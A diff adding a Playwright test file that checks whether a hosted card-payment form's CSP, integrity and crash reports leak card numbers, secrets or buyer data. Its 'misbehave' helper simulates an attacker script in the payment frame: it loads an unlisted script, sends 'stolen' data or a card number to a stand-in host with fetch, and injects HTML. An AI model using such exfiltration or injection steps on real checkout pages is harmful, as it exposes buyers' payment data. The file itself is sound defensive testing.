@@ -1,0 +1,225 @@
+/**
+ * Violation reports that a real Chromium sends about the form's document, hosted by nginx and Caddy: over https through its Reporting API, over plain
+ * http by the policy's `report-uri` alone. What is asked of every report is what it may not contain.
+ */
+import { createServer } from 'node:https';
+import type { Browser, Frame, Page } from 'playwright/test';
+import { violations } from '../support/axe.ts';
+import { BUYER, CARD, checkoutPage, KNOWN_BUYER } from '../support/checkout-page.ts';
+import { test as base, expect } from '../support/fixtures.ts';
+import type { Merchant } from '../support/merchant.ts';
+import type { Service } from '../support/service.ts';
+import { createCertificate } from './certificate.ts';
+import { type Hosting, needs, readManifest, startHosting, WEB_SERVERS, type WebServer } from './hosting.ts';
+import { DIST, runRelease } from './run-release.ts';
+
+/** An address of another origin than the service's, and what arrived there. */
+type Collector = { url: string; bodies: string[]; methods: string[] };
+
+const test = base.extend<{ server: WebServer; collector: Collector; hosting: Hosting }>({
+  server: [{ name: 'nginx', program: null }, { option: true }],
+  // Browsers collect reports for a minute otherwise, and send them without what a context allows.
+  launchOptions: [
+    async ({ launchOptions }, use) => {
+      await use({
+        ...launchOptions,
+        args: [...(launchOptions.args ?? []), '--short-reporting-delay', '--ignore-certificate-errors'],
+      });
+    },
+    { scope: 'worker' },
+  ],
+  // biome-ignore lint/correctness/noEmptyPattern: from the pattern Playwright reads what a fixture needs.
+  collector: async ({}, use) => {
+    const { key, certificate: cert } = createCertificate();
+    const bodies: string[] = [];
+    const methods: string[] = [];
+    const server = createServer({ key, cert }, (request, response) => {
+      let body = '';
+      request.on('data', (text) => {
+        body += text;
+      });
+      request.on('end', () => {
+        methods.push(`${request.method} ${request.url}`);
+        if (request.method === 'POST') bodies.push(body);
+        const headers = {
+          'access-control-allow-origin': '*',
+          'access-control-allow-headers': 'content-type',
+        };
+        response.writeHead(204, headers).end();
+      });
+    });
+    await new Promise<void>((resolve) => {
+      server.listen(0, '127.0.0.1', resolve);
+    });
+    const address = server.address();
+    const port = typeof address === 'object' && address ? address.port : 0;
+    await use({ url: `https://127.0.0.1:${port}/card-form`, bodies, methods });
+    server.closeAllConnections();
+    await new Promise((resolve) => server.close(resolve));
+  },
+  hosting: async ({ server, service, merchant }, use) => {
+    const addresses = { service: service.url, shop: merchant.url };
+    const hosting = await startHosting(server, addresses, undefined, { isReloadable: true });
+    await use(hosting);
+    await hosting.stop();
+  },
+});
+
+/** A checkout in a context of its own: the fixtures fail a test for any violation. */
+const openCheckout = async (browser: Browser, service: Service, merchant: Merchant, hosting?: Hosting) => {
+  const { client_secret } = await service.createIntent();
+  const options = {
+    publishableKey: service.keys.publishable,
+    clientSecret: client_secret,
+    locale: 'en',
+    defaultValues: KNOWN_BUYER,
+  };
+  const at = hosting?.url ?? service.url;
+  const address = merchant.serve({
+    loaders: 0,
+    body: `<main><h1>Checkout</h1><div id="card-form"></div></main><script src="${at}/partner/v1/card-form.js"></script>`,
+    options,
+  });
+  const context = await browser.newContext({
+    ignoreHTTPSErrors: true,
+    viewport: { width: 900, height: 1400 },
+  });
+  const page = await context.newPage();
+  await page.goto(`${hosting ? address.replace(merchant.url, hosting.shop) : address}?order=secret-order`);
+  const checkout = checkoutPage(page);
+  await checkout.ready();
+  return { page, checkout, secret: client_secret };
+};
+
+const frameOf = (page: Page): Frame => {
+  const frame = page.frames().find((one) => one.url().includes('/partner/v1/card-form/'));
+  if (!frame) throw new Error('The page has no frame of the form.');
+  return frame;
+};
+
+/** What an attacker's script in the frame might try. Everything is refused, and reported. */
+const misbehave = async (frame: Frame, script: string, stolen = 'stolen') => {
+  await frame.evaluate(`import('${script}').catch(() => undefined)`);
+  await frame.evaluate(async (what) => {
+    await fetch(`https://elsewhere.invalid/collect?what=${what}`).catch(() => undefined);
+    try {
+      document.body.innerHTML = '<p>replaced</p>';
+    } catch {
+      // Trusted Types
+    }
+  }, stolen);
+};
+
+type Report = { type: string; url: string; body: Record<string, unknown> };
+
+const reportsIn = (bodies: readonly string[]): Report[] =>
+  bodies.flatMap((body) => {
+    const reports: Report[] = JSON.parse(body);
+    return reports;
+  });
+
+for (const server of WEB_SERVERS)
+  test.describe(`violation reports over https from ${server.name}`, () => {
+    test.skip(server.program === null, needs(server));
+    test.use({ server, sandboxOptions: { reports: true } });
+
+    test('are sent once the owner gave an address, and contain no card, no secret and no buyer', async ({
+      browser,
+      collector,
+      hosting,
+      merchant,
+      service,
+    }) => {
+      await runRelease(server, hosting, ['publish', '--from', DIST, '--reports-to', collector.url]);
+      const { release } = await readManifest();
+      const { page, checkout, secret } = await openCheckout(browser, service, merchant, hosting);
+      await checkout.fillCard(CARD.visa);
+      // In the release's own folder, so that the policy allows it, and without a hash.
+      await misbehave(frameOf(page), `/partner/v1/card-form/${release}/assets/unlisted.js`);
+      await checkout.pay();
+      expect(await checkout.hears('result')).toMatchObject({ outcome: 'succeeded' });
+      await expect
+        .poll(() => [...new Set(reportsIn(collector.bodies).map(({ type }) => type))].sort(), {
+          timeout: 30_000,
+        })
+        .toEqual(['csp-violation', 'integrity-violation']);
+      // A document whose process ends.
+      const session = await page.context().newCDPSession(frameOf(page));
+      void session.send('Page.crash').catch(() => undefined);
+      await expect
+        .poll(() => reportsIn(collector.bodies).some(({ type }) => type === 'crash'), { timeout: 30_000 })
+        .toBe(true);
+      expect(collector.methods[0]).toBe('OPTIONS /card-form'); // the browser asks another origin first
+
+      const frame = `${hosting.url}/partner/v1/card-form/${release}/frame.html`;
+      const shop = `${hosting.shop}/`;
+      for (const { url, body } of reportsIn(collector.bodies)) {
+        expect(url).toBe(frame); // no query, no fragment
+        if ('referrer' in body) expect(body.referrer).toBe(shop); // which shop, never which page
+      }
+      const all = collector.bodies.join('\n');
+      for (const [what, text] of Object.entries({
+        ...BUYER,
+        secret,
+        key: service.keys.publishable,
+        order: 'secret-order',
+      }))
+        if (!['state', 'code'].includes(what)) expect([what, all.includes(text)]).toEqual([what, false]);
+      expect(all).not.toMatch(/lg_cs_|lg_pi_|4242|123[^\d]{0,2}12.?34/);
+      // What a script was about to insert is quoted by Trusted Types, whatever the policy says: docs/hosting.md tells so.
+      const samples = reportsIn(collector.bodies).map(({ body }) => body.sample || '');
+      expect([...new Set(samples)].sort()).toEqual(['', 'Element innerHTML|<p>replaced</p>']);
+      await page.context().close();
+    });
+
+    test('reach the sandbox behind the server at a path, and end with `off`', async ({
+      browser,
+      hosting,
+      merchant,
+      service,
+    }) => {
+      const kept = async (): Promise<{ type: string }[]> =>
+        (await (await fetch(`${service.url}/_sandbox/reports`)).json()).data;
+      await runRelease(server, hosting, ['publish', '--from', DIST, '--reports-to', '/reports']);
+      const { page } = await openCheckout(browser, service, merchant, hosting);
+      await misbehave(frameOf(page), '/partner/v1/card-form/unlisted.js');
+      await expect.poll(async () => (await kept()).length, { timeout: 30_000 }).toBeGreaterThan(2);
+      expect((await kept()).map(({ type }) => type)).toContain('csp-violation');
+      await page.context().close();
+
+      await runRelease(server, hosting, ['publish', '--from', DIST, '--reports-to', 'off']);
+      const silent = await openCheckout(browser, service, merchant, hosting);
+      const response = silent.page.waitForResponse(/frame\.html$/);
+      await silent.page.reload();
+      expect(JSON.stringify(await (await response).allHeaders())).not.toContain('report');
+      await silent.page.context().close();
+    });
+  });
+
+test.describe('violation reports over plain http', () => {
+  test.use({ sandboxOptions: { reports: true } });
+
+  test('reach the inspector, which drops one with a card number and says so', async ({
+    browser,
+    merchant,
+    service,
+  }) => {
+    const { page } = await openCheckout(browser, service, merchant);
+    const inspector = await page.context().newPage();
+    await inspector.goto(`${service.url}/_sandbox/#/reports`);
+    await expect(inspector.getByText('No reports yet.')).toBeVisible();
+    await misbehave(frameOf(page), '/partner/v1/card-form/unlisted.js', CARD.visa);
+    const rows = inspector.getByRole('row');
+    await expect(rows.filter({ hasText: 'require-trusted-types-for' })).toBeVisible({ timeout: 30_000 });
+    const dropped = rows.filter({ hasText: 'it seems to contain a card number' });
+    await expect(dropped).toBeVisible();
+    await expect(inspector.locator('body')).not.toContainText(CARD.visa);
+    expect(await violations(inspector.mainFrame(), 'white')).toEqual([]);
+    await page.context().close();
+  });
+});
+
+test('without the option the inspector says how to turn reports on', async ({ page, service }) => {
+  await page.goto(`${service.url}/_sandbox/#/reports`);
+  await expect(page.getByText('Start the sandbox with --reports')).toBeVisible();
+});
